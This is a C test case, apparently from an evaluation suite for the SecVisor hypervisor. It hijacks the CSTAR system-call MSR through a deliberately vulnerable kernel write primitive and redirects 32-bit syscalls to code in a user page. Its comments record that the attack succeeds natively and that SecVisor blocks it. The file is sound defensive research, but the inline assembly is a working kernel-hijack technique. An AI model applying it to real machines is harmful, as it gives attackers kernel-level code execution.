// Row 8. The system-call entry of 32-bit programs (CSTAR) hooked to code in a user page.
// Source: MSR hooks; CSTAR is the one that is forgotten.
// Ends: natively succeeded; beneath SecVisor refused, unapproved-code.
#include "common/attack.h"
#include <string.h>
#include <sys/mman.h>

ATTACK("cstar-user")
{
	static const u8 hook[] = { 0xb8, 0x37, 0x13, 0, 0, 0x0f, 0x07 }; // mov eax, 0x1337; sysretd
	// What runs: 32-bit code below 4 GiB that makes a system call and comes back by a far jump.
	u8 *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT | MAP_POPULATE | MAP_LOCKED, -1, 0);
	u32 low = (u32)(u64)page, back = low + 64;
	u64 gs = operate(VULNERABLE_GS, 0, 0, 0), result, own;
	// Below 4 GiB, too: compatibility mode need not keep the upper half of RSP.
	u8 *stack = mmap(NULL, 16 * PAGE, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT | MAP_POPULATE | MAP_LOCKED, -1, 0);

	memcpy(page, hook, sizeof(hook));
	memcpy(page + 32, "\x0f\x05\xea\0\0\0\0\x33\0", 9); // syscall; jmp far 33h:back
	memcpy(page + 35, &back, 4);
	memcpy(page + 64, "\xff\xe6", 2); // jmp rsi
	make_executable(low);
	alone_with_msr(MSR_CSTAR);
	about_to("make a 32-bit system call through CSTAR in a user page");
	unprotect();
	operate(VULNERABLE_WRMSR, MSR_CSTAR, low, 0);
	__asm__ volatile("rdgsbase %%r12; wrgsbase %3; mov %%rsp, %%rbx; mov %4, %%rsp;"
			 "pushq $0x23; push %2; lea 1f(%%rip), %%rsi; mov $20, %%eax; lretq;"
			 "1: mov %%rbx, %%rsp; wrgsbase %%r12; mov %%r12, %1"
			 : "=&a"(result), "=&r"(own)
			 : "r"((u64)low + 32), "r"(gs), "r"(stack + 15 * PAGE)
			 : "rbx", "rcx", "rdx", "rsi", "r11", "r12", "memory", "cc");
	if ((u32)result == MARK)
		succeeded("a 32-bit system call went to a user page, which returned %#x", MARK);
	failed("the system call returned %#llx", (unsigned long long)result);
}
